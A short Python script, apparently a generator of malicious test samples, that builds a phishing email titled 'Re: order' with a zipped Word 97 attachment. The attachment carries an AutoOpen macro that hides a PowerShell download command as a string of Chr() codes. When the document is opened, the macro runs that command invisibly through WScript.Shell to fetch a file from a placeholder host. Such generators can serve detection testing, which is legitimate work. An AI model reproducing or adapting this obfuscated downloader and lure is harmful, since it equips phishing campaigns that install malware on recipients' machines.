"""A letter of Word 97 in a zip; the macro is a row of numbers that becomes a command."""
from kit import *


def codes(text):
    return " & ".join("Chr(%d)" % ord(c) for c in text)


def make():
    lines = ["Sub AutoOpen()", "Dim a As String"]
    command = "powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://files.example.invalid/b','b')"
    for i in range(0, len(command), 12):
        lines.append("a = a & " + codes(command[i:i + 12]))
    lines += ["Set w = CreateObject(%s)" % codes("WScript.Shell"), "w.Run a, 0", "End Sub"]
    doc = office.doc({"NewMacros": "\n".join(lines)})
    return (Mail("Re: order", "sales@example.net").text("Please see the order attached.\n")
            .attach("order.zip", Zip().add("order.doc", doc).bytes(), "application/zip").bytes())
